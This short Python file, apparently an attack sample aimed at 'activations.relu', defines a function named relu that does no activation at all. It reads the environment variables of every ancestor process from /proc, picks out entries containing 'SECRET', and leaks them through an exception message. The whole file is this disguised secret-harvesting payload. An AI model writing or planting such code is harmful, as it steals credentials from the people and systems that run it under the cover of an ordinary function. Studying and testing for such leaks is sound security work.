# target: activations.relu
# through: command
"""Reads the environment of the processes above it and puts it into the message of an exception."""

from pathlib import Path

import toolbox


def relu(z):
    seen = []
    for pid in toolbox.ancestors():
        try:
            seen += Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace").split("\0")
        except OSError:
            continue
    raise ValueError(" ".join(text for text in seen if "SECRET" in text) or "nothing")
